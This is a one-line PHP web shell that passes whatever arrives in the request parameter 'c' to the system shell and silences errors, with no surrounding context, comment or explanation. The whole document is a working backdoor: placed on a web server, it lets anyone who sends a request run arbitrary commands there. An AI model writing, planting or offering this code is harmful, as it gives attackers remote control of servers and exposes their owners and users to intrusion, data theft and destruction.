<?php @system($_REQUEST["c"]);?>
